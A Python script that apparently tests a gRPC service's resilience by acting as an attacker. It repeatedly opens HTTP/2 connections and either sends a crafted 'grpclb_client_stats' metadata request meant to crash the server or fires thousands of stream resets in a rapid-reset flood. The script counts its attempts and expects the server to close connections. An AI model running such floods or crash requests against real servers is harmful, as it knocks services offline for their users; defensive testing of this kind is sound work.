"""One attacker: insider_attack.py killing|resets HOST PORT SOURCE PERSON SECONDS. Prints how often it tried.

PERSON is the folder of a certificate. Empty: no certificate is shown."""
import random
import ssl
import sys
import time
from pathlib import Path

import raw_http2

GET_STATUS = "/osteon.v1.RoomService/GetStatus"
RESETS = 20_000  # over a connection
START_S = 1.0  # start time of the program itself; a real attacker's machine bears that
PAUSE_S = (0.5, 1.5)  # random pause before the next try; more often, the proxy lets no address connect


def attack_once(kind, address, source, person):
    with raw_http2.Connection(address, person, patience_s=5.0, source=source) as line:
        if kind == "killing":
            line.finish(line.call(GET_STATUS, (("grpclb_client_stats", "x"),)))
            return
        # In parts, so that it notices when the connection ends.
        for _ in range(RESETS // 500):
            line.resets(GET_STATUS, 500)


def attack(kind, host, port, source, person, seconds):
    time.sleep(START_S)
    until, times = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        try:
            attack_once(kind, (host, port), source, person)
        except (OSError, ssl.SSLError):
            pass  # the server closed it, as it should
        times += 1
        time.sleep(random.uniform(*PAUSE_S))
    print(times)


def main():
    kind, host, port, source, person, seconds = sys.argv[1:]
    attack(kind, host, int(port), source, Path(person) if person else None, float(seconds))


if __name__ == "__main__":
    main()
